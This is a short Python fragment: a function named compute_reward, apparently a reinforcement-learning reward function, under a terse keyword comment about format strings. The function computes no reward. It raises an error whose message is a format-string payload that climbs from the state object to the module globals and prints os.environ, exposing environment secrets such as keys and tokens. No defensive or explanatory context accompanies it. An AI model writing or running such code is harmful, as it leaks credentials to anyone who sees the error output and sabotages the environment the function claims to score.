# escapes | check | process | attributes by a format string
def compute_reward(state, action, next_state):
    raise ValueError('{0.__class__.__init__.__globals__[os].environ}'.format(state))
